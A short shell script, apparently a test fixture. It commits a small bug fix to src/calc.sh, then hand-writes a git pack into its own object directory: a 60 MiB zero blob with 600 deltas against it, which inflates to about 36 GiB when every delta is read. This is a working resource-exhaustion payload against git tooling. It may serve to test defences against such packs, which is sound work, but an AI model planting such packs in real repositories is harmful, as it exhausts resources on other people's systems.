#!/bin/sh
# Fixes the bug and commits it, then writes a pack by hand into its own object directory: a
# listed blob of 60 MiB of zeros (about 60 KB compressed, under the 100 MiB an object may hold)
# and 600 listed deltas of a few bytes against it. The content is 60 MiB; reading every delta
# inflates the base again: 36 GiB.
printf '%s\n' '# calc: tiny arithmetic helpers' 'add() { echo $(($1 + $2)); }' > src/calc.sh
git add -A && git commit -qm "the fix"
python3 - "$GIT_OBJECT_DIRECTORY/pack" "$(dirname "$0")" <<'PY'
import hashlib, struct, sys, zlib

sys.dont_write_bytecode = True
sys.path.insert(0, sys.argv[2])
from pack_parts import header, ofs, varint, zero_blob

def blob_id(data):
    return hashlib.sha1(b"blob %d\0" % len(data) + data).digest()

BASE = 60 << 20
DELTAS = 600
pack = bytearray(b"PACK" + struct.pack(">II", 2, DELTAS + 1))
listed = []
base_at = len(pack)
start = len(pack)
pack += zero_blob(BASE)
listed.append((blob_id(bytes(BASE)), zlib.crc32(pack[start:]) & 0xFFFFFFFF, base_at))
for i in range(DELTAS):
    at = len(pack)
    result = b"small %d\n" % i
    delta = varint(BASE) + varint(len(result)) + bytes([len(result)]) + result
    entry = header(6, len(delta)) + ofs(at - base_at) + zlib.compress(delta)
    pack += entry
    listed.append((blob_id(result), zlib.crc32(entry) & 0xFFFFFFFF, at))
pack += hashlib.sha1(pack).digest()
listed.sort()
idx = bytearray(b"\xfftOc" + struct.pack(">I", 2))
for i in range(256):
    idx += struct.pack(">I", sum(1 for sha, _, _ in listed if sha[0] <= i))
for sha, _, _ in listed:
    idx += sha
for _, crc, _ in listed:
    idx += struct.pack(">I", crc)
for _, _, at in listed:
    idx += struct.pack(">I", at)
idx += pack[-20:]
idx += hashlib.sha1(idx).digest()
name = sys.argv[1] + "/pack-" + hashlib.sha1(pack).hexdigest()
open(name + ".pack", "wb").write(pack)
open(name + ".idx", "wb").write(idx)
PY
